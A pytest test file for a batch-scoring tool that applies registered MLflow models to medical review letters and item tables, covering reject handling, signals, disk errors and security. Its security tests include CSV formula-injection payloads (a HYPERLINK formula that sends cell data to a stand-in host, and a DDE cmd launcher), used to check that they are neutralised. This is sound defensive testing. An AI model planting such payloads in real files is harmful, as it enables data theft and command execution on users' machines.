"""Batch scoring with a registered model: letters, parsed items, pre-review cases; nothing lost."""

import json
import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from imrml.jobs.score import SchemaMismatch, score, score_rows
from imrml.jobs.train import train_experiment
from imrml.learn.experiment import parse_experiment
from imrml.learn.views import POST_DECISION_FIELDS
from imrml.letters.batch import parse_paths
from imrml.mlops.registry import LoadedModel, load_model
from imrml.records.tables import iter_table, write_jsonl
from imrml.synth.corpus import write_corpus

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"

PRE_REVIEW = POST_DECISION_FIELDS  # what a case before review does not have yet


def _experiment(target: str, view: str) -> dict:
    return {
        "experiment": {"name": f"t_{target}_{view}", "view": view, "target": target},
        "features": {"word_ngrams": [1, 1], "char_ngrams": False, "max_features": 2000},
        "model": {"kind": "logreg"},
        "split": {"kind": "group_kfold", "n_splits": 2, "seed": 0},
        "registry": {"name": f"{target}_{view}"},
    }


@pytest.fixture(scope="module")
def project(module_tracking_home):
    """A project folder with its own MLflow store, a small generated corpus and two registered models."""
    home = module_tracking_home
    write_corpus(home / "corpus", n=120, seed=7)
    truth = home / "corpus" / "truth.jsonl"
    for target, view in (("outcome", "case"), ("guideline_family", "rationale")):
        train_experiment(parse_experiment(_experiment(target, view)), data=str(truth))
    return home, truth


def _rows(path):
    return list(iter_table(path))


def test_scores_letters_and_tables_with_every_input_accounted_for(project, tmp_path):
    home, truth = project
    n_truth = len(_rows(truth))
    bad = tmp_path / "bad.txt"
    bad.write_text("not a letter at all\n")
    out = tmp_path / "scored.csv"
    result = score("models:/outcome_case/1", [truth, FIXTURES, bad], out)
    rows = pd.read_csv(out)
    n_fixture_items = len(parse_paths([FIXTURES]).records)  # every fixture letter's items
    assert result.n_scored == len(rows) == n_truth + n_fixture_items
    assert [r.source for r in result.rejects] == [str(bad)]
    assert {
        "case_id",
        "item_index",
        "prediction",
        "p_overturned",
        "p_upheld",
        "model_name",
        "model_version",
        "run_id",
        "stated_decision",
        "disagrees",
    } <= set(rows.columns)
    assert ((rows.p_overturned + rows.p_upheld - 1).abs() < 1e-6).all()
    assert set(rows.prediction) <= {"Upheld", "Overturned"}
    assert (rows.model_name == "outcome_case").all() and (rows.model_version == 1).all()
    # the flag says where the model and the letter's stated decision point different ways
    assert (rows.disagrees == (rows.prediction != rows.stated_decision)).all()


def test_pre_review_cases_score_with_the_case_view_model(project, tmp_path):
    home, truth = project
    cases = [{k: v for k, v in r.items() if k not in PRE_REVIEW} for r in _rows(truth)[:50]]
    path = tmp_path / "cases.jsonl"
    write_jsonl(cases, path)
    out = tmp_path / "scored.parquet"
    result = score("models:/outcome_case/1", [path], out)
    frame = pd.read_parquet(out)
    assert result.n_scored == 50 and not result.rejects
    assert frame.stated_decision.isna().all() and frame.disagrees.isna().all()
    # the same cases with their post-decision fields present score identically (case view reads none of them)
    full = tmp_path / "full.jsonl"
    write_jsonl(_rows(truth)[:50], full)
    score("models:/outcome_case/1", [full], tmp_path / "full.parquet")
    assert pd.read_parquet(tmp_path / "full.parquet").p_overturned.tolist() == frame.p_overturned.tolist()


def test_guideline_model_gives_top3_and_explanations(project, tmp_path):
    home, truth = project
    out = tmp_path / "scored.jsonl"
    score("models:/guideline_family_rationale/1", [truth], out, explain_top=True)
    rows = _rows(out)
    assert all(r["top1_label"] == r["prediction"] for r in rows)
    assert all(r["top1_p"] >= r["top2_p"] >= r["top3_p"] for r in rows if "top3_p" in r)
    assert sum(bool(r["explanation"]) for r in rows) > 0.9 * len(rows)
    truth_labels = {(r["case_id"], r["item_index"]): r["guideline_family"] for r in _rows(truth)}
    assert all(r["stated_label"] == truth_labels[r["case_id"], r["item_index"]] for r in rows)
    assert all(r["disagrees"] == (r["prediction"] != r["stated_label"]) for r in rows)
    # letters are labelled on the way, so their items state the reviewer's guideline too
    from imrml.letters.batch import parse_paths
    from imrml.letters.labels import label_items

    score("models:/guideline_family_rationale/1", [FIXTURES], tmp_path / "letters.jsonl")
    want = {(r.case_id, r.item_index): r.guideline_family for r in label_items(parse_paths([FIXTURES]).records)}
    got = {(r["case_id"], r["item_index"]): r["stated_label"] for r in _rows(tmp_path / "letters.jsonl")}
    assert got == want and None not in got.values()


def test_bad_rows_go_to_rejects_and_schema_mismatch_fails_at_once(project, tmp_path):
    home, truth = project
    rows = _rows(truth)[:10]
    rows[3] = {**rows[3], "item": ""}
    rows[5] = {**rows[5], "case_id": None}
    rows[7] = {**rows[7], "claims_guideline": "MTUS"}
    rows[8] = {**rows[8], "patient_age": "fifty"}
    path = tmp_path / "items.jsonl"
    write_jsonl(rows, path)
    result = score("models:/outcome_case/1", [path], tmp_path / "s.csv")
    assert result.n_scored == 6 and sorted(r.row for r in result.rejects) == [4, 6, 8, 9]
    assert {r.reason for r in result.rejects} == {
        "missing item",
        "missing case_id",
        "claims_guideline is not a list: 'MTUS'",
        "patient_age is not a whole number: 'fifty'",
    }
    thin = tmp_path / "thin.jsonl"
    write_jsonl([{"case_id": r["case_id"], "item": r["item"]} for r in rows], thin)
    with pytest.raises(SchemaMismatch, match="case_summary, claims_guideline_text"):
        score("models:/outcome_case/1", [thin], tmp_path / "t.csv")
    assert not (tmp_path / "t.csv").exists()


def test_a_table_that_is_not_items_is_one_reject_not_one_per_row(project, tmp_path):
    """A manifest or report beside the letters is rejected as a whole, naming why; the letters still score."""
    home, truth = project
    manifest = pd.DataFrame({"file": ["a.pdf", "b.pdf"], "case_number": ["CM1", "CM2"], "items": [2, 1]})
    folder = tmp_path / "letters"
    folder.mkdir()
    manifest.to_csv(folder / "MANIFEST.csv", index=False)
    manifest.to_parquet(folder / "report.parquet")
    for f in FIXTURES.glob("*.txt"):
        (folder / f.name).write_text(f.read_text())
    result = score("models:/outcome_case/1", [folder], tmp_path / "s.csv")
    assert result.n_scored == len(parse_paths([FIXTURES]).records)
    assert sorted((r.source, r.row, r.reason) for r in result.rejects) == [
        (str(folder / "MANIFEST.csv"), None, "not a table of items: it has neither a case_id nor an item column"),
        (str(folder / "report.parquet"), None, "not a table of items: it has neither a case_id nor an item column"),
    ]


@pytest.mark.slow
@pytest.mark.parametrize("jobs", [1, 2])
def test_parquet_bad_rows_are_found_in_every_batch_with_their_row_numbers(project, tmp_path, jobs):
    """Parquet rows are checked where their batch is scored; row numbers still count from the file's start."""
    home, truth = project
    rows = _rows(truth)[:45]
    for i in (2, 17, 33):
        rows[i] = {**rows[i], "item": None}
    rows[40] = {**rows[40], "case_id": "  "}
    path = tmp_path / "items.parquet"
    pd.DataFrame(rows).to_parquet(path)
    out = tmp_path / "s.jsonl"
    result = score("models:/outcome_case/1", [path, FIXTURES], out, chunk_size=10, jobs=jobs)
    assert [(r.source, r.row, r.reason) for r in result.rejects] == (
        [(str(path), n, "missing item") for n in (3, 18, 34)] + [(str(path), 41, "missing case_id")]
    )
    scored = _rows(out)
    n_letter_items = len(parse_paths([FIXTURES]).records)  # the fixture letters' items, scored first
    assert result.n_scored == len(scored) == 41 + n_letter_items
    kept = [r for i, r in enumerate(rows) if i not in (2, 17, 33, 40)]
    assert [(r["case_id"], r["source_file"]) for r in scored[n_letter_items:]] == [
        (r["case_id"], r["source_file"]) for r in kept
    ]


def test_cli_summary_and_exit_status(project, tmp_path):
    home, truth = project
    from imrml.cli import main

    out = tmp_path / "scored.csv"
    assert main(["score", "--model", "models:/outcome_case/1", str(truth), "-o", str(out)]) == 0
    assert main(["score", "--model", "models:/no_such_model/1", str(truth), "-o", str(out)]) == 2


@pytest.mark.slow
def test_mlflow_models_predict_matches_imrml_score(project, tmp_path):
    home, truth = project
    model = load_model("models:/outcome_case/1")
    rows = _rows(truth)[:20]
    from imrml.jobs.score import model_input_frame

    frame = model_input_frame(rows)
    cols = [c.name for c in model.pyfunc.metadata.get_input_schema().inputs]
    inp = tmp_path / "input.json"
    inp.write_text(json.dumps({"dataframe_split": json.loads(frame[cols].to_json(orient="split", index=False))}))
    out = tmp_path / "pred.json"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "mlflow",
            "models",
            "predict",
            "-m",
            "models:/outcome_case/1",
            "-i",
            str(inp),
            "-o",
            str(out),
            "-t",
            "json",
            "--env-manager",
            "local",
        ],
        capture_output=True,
        text=True,
        cwd=home,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    served = pd.DataFrame(json.loads(out.read_text())["predictions"])
    score(model, [_write(tmp_path / "rows.jsonl", rows)], tmp_path / "ours.csv")
    ours = pd.read_csv(tmp_path / "ours.csv")
    assert served.prediction.tolist() == ours.prediction.tolist()
    assert (served.p_overturned - ours.p_overturned).abs().max() < 1e-5


def _write(path, rows):
    write_jsonl(rows, path)
    return path


@pytest.mark.parametrize("model", ["models:/outcome_case/1", "models:/guideline_family_rationale/1"])
def test_each_chunk_is_converted_to_a_frame_once(project, tmp_path, monkeypatch, model):
    """Through the saved pyfunc, whose schema enforcement hands the model a new frame (without frame.attrs): one
    records_to_frame per chunk, model_input_frame's; the model's first step sees that the frame is flat."""
    import imrml.records.frame

    home, truth = project
    original = imrml.records.frame.records_to_frame
    conversions = []

    def counting(records):
        conversions.append(len(records))
        return original(records)

    for name, module in list(sys.modules.items()):
        if name.startswith("imrml") and getattr(module, "records_to_frame", None) is original:
            monkeypatch.setattr(module, "records_to_frame", counting)
    path = _write(tmp_path / "rows.jsonl", _rows(truth)[:25])
    result = score(model, [path], tmp_path / "scored.csv", chunk_size=10, jobs=1)
    assert result.n_scored == 25 and conversions == [10, 10, 5]


@pytest.mark.slow
def test_worker_processes_give_the_same_output_in_input_order(project, tmp_path):
    home, truth = project
    serial, parallel = tmp_path / "serial.jsonl", tmp_path / "parallel.jsonl"
    a = score("models:/outcome_case/1", [truth], serial, chunk_size=60, jobs=1)
    b = score("models:/outcome_case/1", [truth], parallel, chunk_size=60, jobs=2)
    assert a.n_scored == b.n_scored > 120  # several chunks
    assert serial.read_text() == parallel.read_text()


# ---------------------------------------------------------------- hostile and sloppy rows


def _ids(rows):
    return [(r["case_id"], r["item_index"]) for r in rows]


def test_every_bad_row_of_a_jsonl_file_is_a_reject_with_its_row_and_reason(project, tmp_path):
    """Values of the wrong type used to abort the whole batch (MLflow's schema enforcement, a TypeError in the
    schema, 'Input contains infinity'); each is now a reject, and every other row scores."""
    home, truth = project
    rows = _rows(truth)[:20]
    bad = {
        2: ({"patient_age": float("inf")}, "patient_age is not a whole number: inf"),
        4: ({"patient_age": float("-inf")}, "patient_age is not a whole number: -inf"),
        6: ({"claims_guideline": [{"source": "MTUS", "pages": [None]}]}, "claims_guideline[1].pages[1] is not a"),
        8: ({"patient_sex": 5}, "patient_sex is not text: 5"),
        10: ({"priority": ["x"]}, "priority is not text: ['x']"),
        12: ({"claims_guideline_family": 7}, "claims_guideline_family is not text: 7"),
        14: ({"priority": True}, "priority is not text: True"),
        16: ({"date_of_injury": 20150102}, "date_of_injury is not a date: 20150102"),
    }
    lines = [json.dumps({**row, **bad[i][0]}) if i in bad else json.dumps(row) for i, row in enumerate(rows)]
    lines[18] = '{"case_id": "CM1", "item": '  # cut off
    path = tmp_path / "items.jsonl"
    path.write_text("\n".join(lines) + "\n")
    out = tmp_path / "scored.csv"
    result = score("models:/outcome_case/1", [path], out, chunk_size=5, jobs=1)
    got = sorted((r.row, r.reason) for r in result.rejects)
    want = sorted([(i + 1, reason) for i, (_, reason) in bad.items()] + [(19, "not valid JSON (Expecting value)")])
    assert [(row, reason[: len(w)]) for (row, reason), (_, w) in zip(got, want, strict=True)] == want
    assert {r.source for r in result.rejects} == {str(path)}
    kept = [r for i, r in enumerate(rows) if i not in bad and i != 18]
    scored = list(iter_table(out))
    assert result.n_scored == len(scored) == len(kept) and result.n_scored + len(result.rejects) == len(rows)
    assert [(r["case_id"], int(r["item_index"])) for r in scored] == _ids(kept)


def _parquet_with(rows, column, array):
    import pyarrow as pa

    table = pa.Table.from_pylist([{k: v for k, v in r.items() if k != column} for r in rows])
    return table.append_column(column, array)


@pytest.mark.parametrize("jobs", [1, pytest.param(2, marks=pytest.mark.slow)])
def test_every_bad_row_of_a_parquet_file_is_a_reject_with_its_row_and_reason(project, tmp_path, jobs):
    import pyarrow as pa
    import pyarrow.parquet as pq

    home, truth = project
    rows = _rows(truth)[:10]

    def at_row_4(value, kind):
        return pa.array([None, None, None, value, *[None] * 6], kind)

    cases = {
        "age.parquet": ("patient_age", pa.array([40.0] * 3 + [float("inf")] + [50.0] * 6), "patient_age is not a"),
        "doi.parquet": ("date_of_injury", at_row_4(20150102, pa.int32()), "date_of_injury is not a date: 20150102"),
        "bool.parquet": ("priority", at_row_4(True, pa.bool_()), "priority is not text: True"),
        "sex.parquet": ("patient_sex", at_row_4(5, pa.int64()), "patient_sex is not text: 5"),
        "utf8.parquet": (
            "case_summary",
            pa.array([r["case_summary"].encode() for r in rows[:3]] + [b"\xff\xfe"] + [b"ok"] * 6, pa.binary()),
            "case_summary is not UTF-8 text",
        ),
    }
    paths = []
    for name, (column, array, _) in cases.items():
        pq.write_table(_parquet_with(rows, column, array), tmp_path / name)
        paths.append(tmp_path / name)
    pages = [dict(r) for r in rows]
    pages[3]["claims_guideline"] = [{"source": "MTUS", "pages": [None]}]
    pq.write_table(pa.Table.from_pylist(pages), tmp_path / "pages.parquet")
    paths.append(tmp_path / "pages.parquet")
    out = tmp_path / "scored.parquet"
    result = score("models:/outcome_case/1", paths, out, chunk_size=4, jobs=jobs)
    reasons = [reason for _, _, reason in cases.values()] + ["claims_guideline[1].pages[1] is not a whole number"]
    assert [(r.source, r.row) for r in result.rejects] == [(str(p), 4) for p in paths]
    assert all(r.reason.startswith(w) for r, w in zip(result.rejects, reasons, strict=True))
    scored = pd.read_parquet(out)
    assert result.n_scored == len(scored) == 9 * len(paths)
    assert list(zip(scored.case_id, scored.item_index, strict=True)) == _ids(rows[:3] + rows[4:]) * len(paths)


def test_output_columns_are_fixed_before_the_first_chunk(project, tmp_path):
    """A first chunk without stated decisions (or labels), a later chunk with them: Parquet used to fail
    ('Unsupported cast from string to null')."""
    home, truth = project
    rows = _rows(truth)[:30]
    rows[:10] = [{k: v for k, v in r.items() if k not in ("decision", "guideline_family")} for r in rows[:10]]
    path = tmp_path / "items.jsonl"
    write_jsonl(rows, path)
    for model in ("models:/outcome_case/1", "models:/guideline_family_rationale/1"):
        out = tmp_path / "scored.parquet"
        result = score(model, [path], out, chunk_size=10, jobs=1)
        scored = pd.read_parquet(out)
        stated = "stated_decision" if "outcome" in model else "stated_label"
        assert result.n_scored == len(scored) == 30
        assert scored[stated][:10].isna().all() and scored[stated][10:].notna().all()
        assert scored.disagrees[:10].isna().all() and scored.disagrees[10:].notna().all()
    empty = tmp_path / "empty.jsonl"
    empty.write_text("")
    score("models:/outcome_case/1", [path], tmp_path / "full.parquet", jobs=1)
    score("models:/outcome_case/1", [empty], tmp_path / "none.parquet", jobs=1)
    nothing = pd.read_parquet(tmp_path / "none.parquet")
    assert len(nothing) == 0 and list(nothing.columns) == list(pd.read_parquet(tmp_path / "full.parquet").columns)


class _FailsOn:
    """A model that cannot score items containing ``word`` (a fault the row check cannot know of)."""

    def __init__(self, word):
        self.word = word

    def predict(self, frame):
        if frame["item"].str.contains(self.word).any():
            raise ValueError(f"cannot handle {self.word!r}\nsecond line")
        return pd.DataFrame({"prediction": ["Upheld"] * len(frame), "p_overturned": 0.2, "p_upheld": 0.8})


def _stub_model(word):
    return LoadedModel("stub", _FailsOn(word), "stub", "1", "r", "outcome", None, classes=["Overturned", "Upheld"])


def test_a_row_the_model_fails_on_is_a_reject_and_the_rest_scores(make_records):
    rows = [r.to_dict() for r in make_records(20, seed=1)][:30]
    for i in (7, 19, 20):
        rows[i]["item"] = "boom " + rows[i]["item"]
    origins = [("items.jsonl", n) for n in range(1, 31)]
    scored, rejects = score_rows(_stub_model("boom"), rows, origins)
    assert [(r.source, r.row, r.reason) for r in rejects] == [
        ("items.jsonl", n, "cannot be scored: cannot handle 'boom'") for n in (8, 20, 21)
    ]
    kept = [r for i, r in enumerate(rows) if i not in (7, 19, 20)]
    assert _ids(scored) == _ids(kept)


def test_a_model_that_fails_on_every_row_is_a_fault_not_rejects(make_records):
    rows = [r.to_dict() for r in make_records(40, seed=1)]
    with pytest.raises(ValueError, match="cannot handle"):
        score_rows(_stub_model(""), rows, [("items.jsonl", n) for n in range(1, len(rows) + 1)])


# ---------------------------------------------------------------- faults: a run that is stopped


def _children(pid):
    """The processes whose parent is ``pid`` (from /proc)."""
    kids = []
    for entry in Path("/proc").iterdir():
        try:
            stat = (entry / "stat").read_text()
        except (OSError, ValueError):
            continue
        if entry.name.isdigit() and int(stat.rsplit(")", 1)[1].split()[1]) == pid:
            kids.append(int(entry.name))
    return kids


def _running(pid):
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _start_scoring_with_workers(truth, tmp_path):
    """``imrml score`` with 2 workers on an input that keeps them busy; returns once both run and the output's
    temporary file exists: (process, its children, output folder)."""
    big = tmp_path / "big.jsonl"
    big.write_text(truth.read_text() * 150)
    out = tmp_path / "out"
    cmd = [sys.executable, "-m", "imrml", "score", "--model", "models:/outcome_case/1", str(big)]
    proc = subprocess.Popen(
        [*cmd, "-o", str(out / "scored.csv"), "--jobs", "2", "--chunk-size", "500"], stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while not (len(_children(proc.pid)) >= 3 and list(out.glob(".scored.csv.*.part"))):  # 2 workers, 1 tracker
        assert proc.poll() is None and time.monotonic() < deadline, proc.stderr.read() if proc.poll() else "slow"
        time.sleep(0.2)
    # signalled at once: on a loaded machine a few seconds' wait let the run finish before the signal came
    return proc, _children(proc.pid), out


def _gone(pids, seconds=10):
    deadline = time.monotonic() + seconds
    while any(_running(p) for p in pids) and time.monotonic() < deadline:
        time.sleep(0.2)
    return [p for p in pids if _running(p)]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("sig", "status", "said"), [(signal.SIGTERM, 143, "terminated"), (signal.SIGINT, 130, "interr")]
)
def test_sigterm_and_ctrl_c_end_the_workers_and_remove_the_temporary_file(project, tmp_path, sig, status, said):
    home, truth = project
    proc, kids, out = _start_scoring_with_workers(truth, tmp_path)
    proc.send_signal(sig)
    assert proc.wait(timeout=60) == status and said in proc.stderr.read()
    assert _gone(kids) == []  # the workers and the resource tracker
    assert list(out.iterdir()) == []  # no output, no temporary file, no rejects report


@pytest.mark.slow
def test_kill_9_ends_the_workers_and_a_later_run_removes_the_stale_temporary_file(project, tmp_path):
    home, truth = project
    proc, kids, out = _start_scoring_with_workers(truth, tmp_path)
    proc.kill()
    proc.wait(timeout=60)
    assert _gone(kids) == []  # workers end when their parent does, and the resource tracker with them
    (stale,) = out.glob(".scored.csv.*.part")
    other = out / ".other.csv.vm-1.abc.part"  # another output's: not this run's to remove
    other.write_text("")
    result = score("models:/outcome_case/1", [truth], out / "scored.csv", jobs=1)
    assert sorted(p.name for p in out.iterdir()) == [other.name, "scored.csv"] and not stale.exists()
    assert result.n_scored == len(_rows(truth))


# ---------------------------------------------------------------- faults: where the output goes, what goes in


def _imrml(*args, wrap=list, **kw):
    return subprocess.run(wrap([sys.executable, "-m", "imrml", *map(str, args)]), capture_output=True, text=True, **kw)


@pytest.mark.parametrize("jobs", ["1", pytest.param("2", marks=pytest.mark.slow)])
def test_scoring_says_nothing_but_its_summary(project, tmp_path, jobs):
    """No library warning on stderr, in process or in workers: MLflow's advisories that tell a user nothing are
    silenced one by one (imrml.mlops.tracking.MLFLOW_NOISE), nothing else is."""
    home, truth = project
    path = _write(tmp_path / "tiny.jsonl", _rows(truth)[:3])
    env = {k: v for k, v in os.environ.items() if k != "PYTHONWARNINGS"}  # Python's default filters, as a user has
    proc = _imrml("score", "--model", "models:/outcome_case/1", path, "-o", tmp_path / "s.csv", "--jobs", jobs, env=env)
    assert (proc.returncode, proc.stderr) == (0, ""), proc.stderr
    assert proc.stdout.startswith("scored 3 items")


def test_an_output_folder_that_cannot_be_written_fails_before_any_work(project, tmp_path, unprivileged):
    """One line naming the output (not its hidden temporary file), before the model is even loaded."""
    home, truth = project
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    proc = _imrml("score", "--model", "models:/no_such_model/1", truth, "-o", locked / "s.csv", wrap=unprivileged)
    assert (proc.returncode, proc.stderr) == (
        2,
        f"imrml score: error: {locked / 's.csv'}: cannot write: Permission denied\n",
    )
    proc = _imrml(
        "score",
        "--model",
        "models:/outcome_case/1",
        truth,
        "-o",
        tmp_path / "s.csv",
        "--rejects",
        locked / "r",
        wrap=unprivileged,
    )
    assert (proc.returncode, proc.stderr) == (
        2,
        f"imrml score: error: {locked / 'r'}: cannot write: Permission denied\n",
    )
    assert not (tmp_path / "s.csv").exists()


@pytest.mark.slow
def test_a_disk_that_fills_during_the_run_is_one_line_naming_the_output(project, tmp_path):
    home, truth = project
    big = tmp_path / "big.jsonl"
    big.write_text(truth.read_text() * 40)
    out = tmp_path / "out"

    def small_disk():  # files of at most 1 MB: the model loads, the scored file does not fit
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, 1_000_000))

    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "imrml",
            "score",
            "--model",
            "models:/outcome_case/1",
            str(big),
            "-o",
            str(out / "s.csv"),
        ],
        capture_output=True,
        text=True,
        preexec_fn=small_disk,
    )
    assert proc.returncode == 2 and proc.stderr.endswith(
        f"imrml score: error: {out / 's.csv'}: cannot write: File too large\n"
    )
    assert list(out.iterdir()) == []


def test_inputs_that_cannot_be_searched_are_rejects_and_the_counts_add_up(project, tmp_path, unprivileged):
    """An unreadable folder, a dangling link and a link loop inside an input folder used to vanish without a word,
    and the summary still said scored + rejected = input."""
    home, truth = project
    letters = tmp_path / "letters"
    (letters / "locked").mkdir(parents=True)
    for f in FIXTURES.glob("letter_*.txt"):
        (letters / f.name).write_text(f.read_text())
    (letters / "locked" / "hidden.txt").write_text((FIXTURES / "letter_2016.txt").read_text())
    (letters / "locked").chmod(0o000)
    (letters / "moved.pdf").symlink_to(tmp_path / "elsewhere.pdf")
    (letters / "again").symlink_to(letters)
    want = {
        str(letters / "locked"): "cannot read folder: Permission denied",
        str(letters / "moved.pdf"): f"dangling link: its target {tmp_path / 'elsewhere.pdf'} does not exist",
        str(letters / "again"): "link loop: a link to a folder that contains it",
    }
    out = tmp_path / "scored.csv"
    proc = _imrml("score", "--model", "models:/outcome_case/1", letters, "-o", out, wrap=unprivileged)
    n_items = len(parse_paths([FIXTURES]).records)
    n_letters = len(list(FIXTURES.glob("letter_*.txt")))
    assert proc.returncode == 1, proc.stderr
    assert f"scored {n_items} items, rejected 3 inputs (scored + rejected = {n_items + 3} = input)" in proc.stdout
    rejected = [json.loads(line) for line in (tmp_path / "scored.rejects.jsonl").read_text().splitlines()]
    assert {r["source"]: r["reason"] for r in rejected} == want and len(pd.read_csv(out)) == n_items
    items = tmp_path / "items.jsonl"
    proc = _imrml("parse", letters, "-o", items, "-q", wrap=unprivileged)
    summary = f"{n_letters + 3} files: {n_letters} letters parsed into {n_items} items, 3 rejected"
    assert proc.returncode == 1 and summary in proc.stdout
    rejected = [json.loads(line) for line in (tmp_path / "items.rejects.jsonl").read_text().splitlines()]
    assert {r["source"]: r["reason"] for r in rejected} == want
    (letters / "locked").chmod(0o755)


# ---------------------------------------------------------------- security


def test_a_model_from_a_file_path_needs_an_explicit_flag(project, tmp_path):
    """A model is code: a registry or run URI is the normal way; anything else is loaded only when asked."""
    import mlflow

    home, truth = project
    local = mlflow.artifacts.download_artifacts("models:/outcome_case/1", dst_path=str(tmp_path / "model"))
    out = tmp_path / "s.csv"
    proc = _imrml("score", "--model", local, truth, "-o", out)
    assert proc.returncode == 2 and "needs --allow-model-path, and only for a model you trust" in proc.stderr
    assert not out.exists()
    proc = _imrml("score", "--model", local, truth, "-o", out, "--allow-model-path")
    assert proc.returncode == 0, proc.stderr
    run_id = load_model("models:/outcome_case/1").run_id
    assert pd.read_csv(out).run_id.eq(run_id).all()


def test_formula_cells_in_the_scored_csv_are_neutralized(project, tmp_path):
    home, truth = project
    rows = _rows(truth)[:3]
    rows[0]["item"] = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    rows[1]["case_id"] = "+cmd|' /C calc'!A0"
    path = tmp_path / "items.jsonl"
    write_jsonl(rows, path)
    score("models:/outcome_case/1", [path], tmp_path / "s.csv", jobs=1)
    raw = (tmp_path / "s.csv").read_text()
    assert "'=HYPERLINK(" in raw and "'+cmd|" in raw and "\n=" not in raw and ",=" not in raw
    score("models:/outcome_case/1", [path], tmp_path / "s.jsonl", jobs=1)
    assert _rows(tmp_path / "s.jsonl")[0]["item"] == rows[0]["item"]  # JSONL and Parquet keep the text as it is


def test_a_password_in_the_tracking_uri_is_never_shown(project, tmp_path):
    home, truth = project
    env = {
        **{k: v for k, v in os.environ.items() if k != "MLFLOW_REGISTRY_URI"},  # MLflow sets it in this process
        "MLFLOW_TRACKING_URI": "http://alice:s3cret-pw@127.0.0.1:9",  # nothing listens on port 9 (discard)
        "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0",
        "MLFLOW_HTTP_REQUEST_TIMEOUT": "5",
    }
    for args in (
        ("promote", "outcome_case"),
        ("score", "--model", "models:/outcome_case/1", truth, "-o", tmp_path / "s.csv"),
    ):
        proc = _imrml(*args, env=env, timeout=120)
        assert proc.returncode != 0 and "alice:***@127.0.0.1:9" in proc.stderr
        assert "s3cret" not in proc.stdout + proc.stderr


def test_small_inputs_are_scored_without_starting_workers(project, tmp_path, monkeypatch):
    """Workers cost ~6 s each to start: below WORKERS_FROM items (letters estimated) they are not started."""
    import imrml.jobs.score as score_module

    home, truth = project
    letters = sorted(FIXTURES.glob("letter_*.txt"))
    rows = {truth: len(_rows(truth))}
    assert score_module.estimated_items([*letters, truth], rows) == pytest.approx(2.2 * len(letters) + rows[truth])

    def no_pool(*args, **kwargs):
        raise AssertionError("a worker pool was started for a small input")

    monkeypatch.setattr(score_module, "ProcessPoolExecutor", no_pool)
    result = score("models:/outcome_case/1", [FIXTURES, truth], tmp_path / "s.csv", chunk_size=50)
    assert result.n_scored == len(parse_paths([FIXTURES]).records) + rows[truth]
    monkeypatch.setattr(score_module, "WORKERS_FROM", 10)  # the same input counted as large: workers start
    with pytest.raises(AssertionError, match="worker pool was started"):
        score("models:/outcome_case/1", [FIXTURES, truth], tmp_path / "s.csv", chunk_size=50)


def test_a_corpus_scores_as_its_letters(project, tmp_path):
    from imrml.jobs.corpus import update_corpus

    home, _ = project
    letters = home / "corpus" / "letters"
    corpus = tmp_path / "corpus"
    update_corpus([str(letters)], corpus, progress=False)
    from_letters = tmp_path / "letters.csv"
    score("models:/outcome_case/1", [letters], from_letters, jobs=1)
    from_corpus = tmp_path / "corpus.csv"
    result = score("models:/outcome_case/1", [corpus], from_corpus, jobs=1)
    key = ["case_id", "item_index"]
    a = pd.read_csv(from_letters).sort_values(key).reset_index(drop=True)
    b = pd.read_csv(from_corpus).sort_values(key).reset_index(drop=True)
    assert result.n_scored == len(a) > 100 and not result.rejects
    pd.testing.assert_frame_equal(a.drop(columns="source_file"), b.drop(columns="source_file"))


def test_a_letter_past_a_limit_flag_is_a_reject_naming_it_and_the_rest_is_scored(
    project, tmp_path, fixtures_dir, fixtures_by_size
):
    from imrml.cli import main

    home, truth = project
    limit, over, kept = fixtures_by_size
    out = tmp_path / "scored.csv"
    args = ["score", "--model", "models:/outcome_case/1", str(fixtures_dir), str(truth), "-o", str(out)]
    assert main([*args, "--max-bytes", str(limit)]) == 1
    rejects = [json.loads(line) for line in (tmp_path / "scored.rejects.jsonl").read_text().splitlines()]
    assert sorted(Path(r["source"]).name for r in rejects) == sorted(over)
    assert all(r["reason"].startswith("file larger than the 4,000-byte limit (--max-bytes; ") for r in rejects)
    # the other letters and the table are scored as without the flag
    assert len(pd.read_csv(out)) == len(parse_paths([kept]).records) + len(_rows(truth))
